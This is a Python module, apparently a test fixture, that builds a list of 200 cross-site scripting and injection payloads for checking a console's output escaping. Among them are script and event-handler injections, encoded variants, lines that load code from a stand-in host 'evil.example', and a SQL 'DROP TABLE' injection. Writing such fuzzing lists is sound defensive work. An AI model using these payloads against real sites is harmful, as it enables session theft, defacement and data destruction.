"""Texts that visitors write who want a console's page to run something."""

from __future__ import annotations

from itertools import product

_BREAK_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</code></pre>")
_RUN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
_ODD = (
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onload=alert(1)",
    "javascript:alert(1)",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)//-->",
    "\u202e<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%(count)s %s %d {0}",
    "a" * 3_000,
    "<" * 500,
    "\t\n <script\n>alert(1)</script\n>",
    "<SCRIPT/SRC=//evil.example></SCRIPT>",
    "'; DROP TABLE events; --",
    "\ud83d\ude00<script>alert(1)</script>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '=HYPERLINK("//evil.example")',
)
PAYLOADS = [before + text for before, text in product(_BREAK_OUT, _RUN)] + list(_ODD)
"""Two hundred."""
